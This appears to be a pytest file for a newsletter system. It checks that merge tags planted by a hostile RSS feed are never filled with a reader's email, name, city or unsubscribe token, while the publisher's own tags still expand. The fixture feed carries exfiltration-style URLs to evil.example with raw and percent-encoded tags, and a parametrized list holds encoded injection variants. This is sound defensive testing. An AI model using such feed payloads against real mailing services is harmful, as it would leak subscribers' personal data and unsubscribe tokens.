"""Issue 11, item 1: merge tags are filled only where the publisher wrote them.

A hostile feed puts ``*|EMAIL|*``, ``*|UNSUBSCRIBE_URL|*``, ``*|NAME|*`` and ``*|ATTR:x|*`` (raw and
percent-encoded) in its link, image URL, title, author, category and summary. The digest goes
through the real path (compose → campaign → send to aiosmtpd on 127.0.0.1) and no reader's
address, name, attribute or unsubscribe token may appear anywhere the feed controls, while the
publisher's own tags (template, ``--subject``) still expand.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from urllib.parse import unquote

import pytest

from dispatch_helpers import add_people, make_config, setup_db
from newsletter.compose import ComposeOptions, compose
from newsletter.dispatch.campaigns import create_campaign
from newsletter.dispatch.personalize import find_tags
from newsletter.dispatch.sender import send_campaign

REPO = Path(__file__).parent.parent
WORD_JOINER = "\u2060"  # what makes a tag in article text inert (see compose/mergesafe.py)

FEED = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel>
    <title>Gazette for *|NAME|*</title>
    <link>https://evil.example/</link>
    <description>x</description>
    <item>
      <title>Hello *|NAME|* at *|EMAIL|* %2A%7CATTR:city%7C%2A</title>
      <link>https://evil.example/t?e=*|EMAIL|*&amp;u=*|UNSUBSCRIBE_URL|*&amp;c=*|ATTR:city|*&amp;n=%2A%7CNAME%7C%2A</link>
      <dc:creator>*|EMAIL|*</dc:creator>
      <category>*|ATTR:city|*</category>
      <pubDate>Mon, 23 Nov 2026 08:00:00 +0000</pubDate>
      <media:content url="https://evil.example/p.png?e=%2A%7CEMAIL%7C%2A&amp;n=*|NAME|*&amp;u=%2a%7cUNSUBSCRIBE_URL%7c%2a&amp;a=*|ATTR:city:x|*" medium="image" width="1200" height="800"/>
      <description>Your address is *|EMAIL|*, your city %2A%7CATTR:city%7C%2A, leave: *|UNSUBSCRIBE_URL|* *|NAME:friend|*</description>
    </item>
    <item>
      <title>Second |*EMAIL*| story</title>
      <link>https://evil.example/two?x=%2A%7CEMAIL%7C%2A</link>
      <pubDate>Sun, 22 Nov 2026 08:00:00 +0000</pubDate>
      <description>Ends with a star *</description>
    </item>
  </channel>
</rss>
"""


def publisher_template(tmp_path: Path) -> Path:
    """The default templates plus the publisher's own greeting with the reader's name and address."""
    d = tmp_path / "tpl"
    shutil.copytree(REPO / "templates", d)
    mjml = (d / "digest.mjml").read_text(encoding="utf-8")
    greeting = '<mj-section><mj-column><mj-text>Publisher greets {{ name }} at {{ email }}</mj-text></mj-column></mj-section>'
    (d / "digest.mjml").write_text(mjml.replace('{% include "header.mjml" %}', '{% include "header.mjml" %}\n' + greeting), encoding="utf-8")
    txt = (d / "digest.txt").read_text(encoding="utf-8")
    (d / "digest.txt").write_text("Publisher greets {{ name }} at {{ email }}\n" + txt, encoding="utf-8")
    return d


@pytest.fixture
def hostile(tmp_path, sqlite_url):
    feed = tmp_path / "feed.xml"
    feed.write_text(FEED, encoding="utf-8")
    engine = setup_db(sqlite_url)
    config = make_config(sqlite_url, tmp_path)
    readers = add_people(engine, "weekly", 3)  # names "Reader 0".., attribute city=Lyon
    yield engine, config, feed, readers
    engine.dispose()


def _parts(received):
    m = received.message()
    return m, m.get_body(("html",)).get_content(), m.get_body(("plain",)).get_content()


def _token(m) -> str:
    return m["List-Unsubscribe"].split(",")[0].strip("<> ").rsplit("/", 1)[1]


def test_tags_in_feed_data_reach_every_reader_unfilled_and_publisher_tags_still_expand(hostile, tmp_path, smtp_server):
    engine, config, feed, readers = hostile
    digest = compose([str(feed)], config, ComposeOptions(template_dir=str(publisher_template(tmp_path))))
    c = create_campaign(engine, digest, ["weekly"], config, subject="News for *|NAME|*")
    send_campaign(engine, c.id, config, smtp=smtp_server.url)
    assert len(smtp_server.received()) == 3
    for i, addr in enumerate(readers):
        m, html, text = _parts(smtp_server.by_recipient(addr)[0])
        name, token = f"Reader {i}", _token(m)
        # the publisher's own tags: subject, greeting, footer unsubscribe link
        assert m["Subject"] == f"News for {name}"
        for body in (html, text):
            assert body.count(f"Publisher greets {name} at {addr}") == 1
            assert body.count(addr) == 1, "the address appears only where the publisher put it"
            # the greeting, and in the HTML the <title>, which follows the subject it is sent with
            assert body.count(name) == (2 if body is html else 1)
            assert f"<title>News for {name}</title>" in html
            assert body.count(token) == 1, "the token appears only in the footer's unsubscribe link"
            assert f"https://news.example.org/unsubscribe/{token}" in body
            for leak in ("Lyon", addr.replace("@", "%40")):
                assert leak not in body
            assert "*|NAME:friend|*" in body.replace(WORD_JOINER, ""), "a tag's fallback is not filled in either"
            assert not find_tags(body), "no tag the dispatcher would see is left in what was sent"
        # every link and image the feed controls is there, as the feed wrote it
        urls = re.findall(r'(?:href|src)="(https://evil\.example/[^"]*)"', html)
        assert len(urls) >= 3 and any("/p.png" in u for u in urls)
        for u in urls:
            assert not any(x in unquote(u) for x in (addr, token, name, "Lyon"))
        link = next(u for u in urls if u.startswith("https://evil.example/t?"))
        assert unquote(link.replace("&amp;", "&")) == "https://evil.example/t?e=*|EMAIL|*&u=*|UNSUBSCRIBE_URL|*&c=*|ATTR:city|*&n=*|NAME|*"
        # the reader sees the article's text as written
        shown = html.replace(WORD_JOINER, "").replace("&#8288;", "")
        assert "Hello *|NAME|* at *|EMAIL|*" in shown and "leave: *|UNSUBSCRIBE_URL|*" in shown
        assert "Hello *|NAME|* at *|EMAIL|*" in text.replace(WORD_JOINER, "")


def test_a_subject_made_from_article_titles_is_not_filled_per_reader(hostile, smtp_server):
    engine, config, feed, readers = hostile
    digest = compose([str(feed)], config)
    c = create_campaign(engine, digest, ["weekly"], config)
    send_campaign(engine, c.id, config, smtp=smtp_server.url)
    subjects = set()
    for i, addr in enumerate(readers):
        m, html, text = _parts(smtp_server.by_recipient(addr)[0])
        subject = m["Subject"]
        assert addr not in subject and f"Reader {i}" not in subject
        assert "Hello *|NAME|*" in subject.replace(WORD_JOINER, "")
        subjects.add(subject)
        # the <title> and the preheader come from article data too
        assert addr not in html and "Lyon" not in html and "Lyon" not in text
    assert len(subjects) == 1, "every reader gets the same subject"


def test_campaign_snapshot_holds_only_the_publishers_tags(hostile):
    engine, config, feed, _ = hostile
    digest = compose([str(feed)], config)
    ours = {"*|WEB_VERSION_URL|*", "*|UNSUBSCRIBE_URL|*", "*|PREFERENCES_URL|*"}
    assert set(find_tags(digest.html)) == ours
    assert set(find_tags(digest.text)) == ours
    assert not find_tags(digest.subject) and not find_tags(digest.preheader)


def test_test_sends_and_previews_do_not_fill_feed_tags(hostile, tmp_path):
    """The admin 'Send a test' of a composed digest fills tags with the dispatcher's substitution."""
    from newsletter.web.preview import fill_merge_tags

    engine, config, feed, _ = hostile
    digest = compose([str(feed)], config)
    for body, html in ((digest.html, True), (digest.text, False)):
        out = fill_merge_tags(body, html=html, email="tester@example.com", name="Tess", unsubscribe_url="https://u.example/t0k",
                              preferences_url="https://p.example/t0k", attributes={"city": "Lyon"})
        assert "tester@example.com" not in out and "Tess" not in out and "Lyon" not in out
        assert out.count("https://u.example/t0k") == 1  # the footer links only
        assert out.count("https://p.example/t0k") == 1


MD_OPT_IN = """---
title: "A note for *|NAME:reader|*"
summary: "Your city: *|ATTR:city|*"
url: "https://news.example.org/survey?who=*|EMAIL|*"
merge_tags: true
---
Body.
"""


def test_publishers_local_markdown_may_opt_in_and_remote_markdown_never(hostile, tmp_path, smtp_server):
    from newsletter.articles.sources import parse_content

    engine, config, _, readers = hostile
    local = tmp_path / "posts"
    local.mkdir()
    (local / "note.md").write_text(MD_OPT_IN, encoding="utf-8")
    (local / "plain.md").write_text(MD_OPT_IN.replace("merge_tags: true\n", "").replace("A note", "Plain")
                                     .replace("survey?", "plain?"), encoding="utf-8")
    digest = compose([str(local)], config)
    c = create_campaign(engine, digest, ["weekly"], config)
    send_campaign(engine, c.id, config, smtp=smtp_server.url)
    m, html, text = _parts(smtp_server.by_recipient(readers[1])[0])
    assert "A note for Reader 1" in html and "A note for Reader 1" in text
    assert "Your city: Lyon" in html and "https://news.example.org/survey?who=reader1@example.com" in html
    # the file that did not opt in keeps its tags as text
    assert "Plain for *|NAME:reader|*" in html.replace(WORD_JOINER, "") and "Plain for Reader 1" not in html

    warnings: list[str] = []
    remote = parse_content(MD_OPT_IN.encode(), "https://elsewhere.example/note.md", config, warnings.append,
                           base_url="https://elsewhere.example/note.md")
    assert [a.merge_tags for a in remote] == [False]
    assert any("merge_tags" in w and "elsewhere.example" in w for w in warnings)


def test_merge_tags_front_matter_must_be_a_boolean(tmp_path):
    from newsletter.articles.markdown import read_markdown_file
    from newsletter.config import Config
    from newsletter.errors import SourceError

    p = tmp_path / "x.md"
    p.write_text(MD_OPT_IN.replace("merge_tags: true", "merge_tags: sometimes"), encoding="utf-8")
    with pytest.raises(SourceError, match="merge_tags"):
        read_markdown_file(p, Config())


@pytest.mark.parametrize("value", [
    "*|EMAIL|*", "%2A%7CEMAIL%7C%2A", "%2a%7cEMAIL%7c%2a", "*%7CEMAIL%7C*", "%2A|EMAIL|%2A", "*|%2A%7CEMAIL|*",
    "%7C%2A|EMAIL*|%7C%2A", "x*|||***|EMAIL|*|*", "*|ATTR:a:b|*", "|*", "*|",
])
def test_inert_forms_leave_no_tag_and_keep_the_meaning(value):
    from newsletter.compose.mergesafe import inert_text, inert_url

    for v in (value, "a" + value + "b", value * 3):
        assert not find_tags(inert_text(v)) and inert_text(v).replace(WORD_JOINER, "") == v
        u = inert_url("https://x.example/?q=" + v)
        assert not find_tags(u)
        assert unquote(u) == unquote("https://x.example/?q=" + v)
        assert inert_url(u) == u and inert_text(inert_text(v)) == inert_text(v)


def test_inert_text_guards_both_ends_so_adjacent_values_cannot_join_into_a_tag():
    from newsletter.compose.mergesafe import inert_text

    joined = inert_text("x *") + inert_text("|EMAIL|") + inert_text("* y")
    assert not find_tags(joined)
    assert not find_tags(inert_text("%2A") + inert_text("%7CEMAIL%7C") + inert_text("%2A"))


def test_web_version_shows_the_feed_text_and_fills_only_the_publishers_tags(hostile, smtp_server):
    from fastapi.testclient import TestClient

    from newsletter.web import create_app

    engine, config, feed, readers = hostile
    digest = compose([str(feed)], config)
    c = create_campaign(engine, digest, ["weekly"], config)
    send_campaign(engine, c.id, config, smtp=smtp_server.url)
    with TestClient(create_app(config, engine)) as client:
        page = client.get(f"/archive/{c.id}/issue")  # the issue itself, framed by /archive/{id}
        listing = client.get("/archive/")
    assert page.status_code == 200 and "https://evil.example/t?e=*%7CEMAIL%7C*" in page.text
    body = page.text.replace(WORD_JOINER, "").replace("&#8288;", "")
    assert "Hello *|NAME|* at *|EMAIL|*" in body
    assert not any(r in page.text for r in readers) and "Lyon" not in page.text
    assert "/unsubscribe/" not in page.text  # nobody's token: the web version has none
    assert "Hello *|NAME|*" in listing.text.replace(WORD_JOINER, "")  # the subject, as written
